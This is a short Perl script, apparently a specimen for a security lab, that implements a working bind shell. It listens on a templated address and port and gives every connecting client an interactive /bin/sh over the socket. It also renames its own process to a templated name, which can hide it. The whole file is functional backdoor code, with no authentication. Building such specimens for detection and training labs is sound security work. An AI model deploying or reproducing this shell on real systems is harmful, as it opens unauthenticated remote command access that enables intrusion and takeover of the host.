#!/usr/bin/perl
# kcsi lab specimen: bind shell. Listens on @@BIND@@ (a 127.x address: the lab container
# shares the host's network) and gives each client /bin/sh -i on the socket.
use strict;
use warnings;
use Socket;
use POSIX ();

$0 = '@@PROCNAME@@';
my ($addr, $port) = split /:/, '@@BIND@@';
socket(my $srv, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die "socket: $!";
setsockopt($srv, SOL_SOCKET, SO_REUSEADDR, pack('l', 1));
bind($srv, sockaddr_in($port, inet_aton($addr))) or die "bind: $!";
listen($srv, 5) or die "listen: $!";
$SIG{CHLD} = 'IGNORE';
while (accept(my $c, $srv)) {
    my $pid = fork;
    next if !defined $pid;
    if ($pid == 0) {
        close $srv;
        open(STDIN, '<&', $c);
        open(STDOUT, '>&', $c);
        open(STDERR, '>&', $c);
        close $c;
        exec { '/bin/sh' } 'sh', '-i';
        POSIX::_exit(1);
    }
    close $c;
}
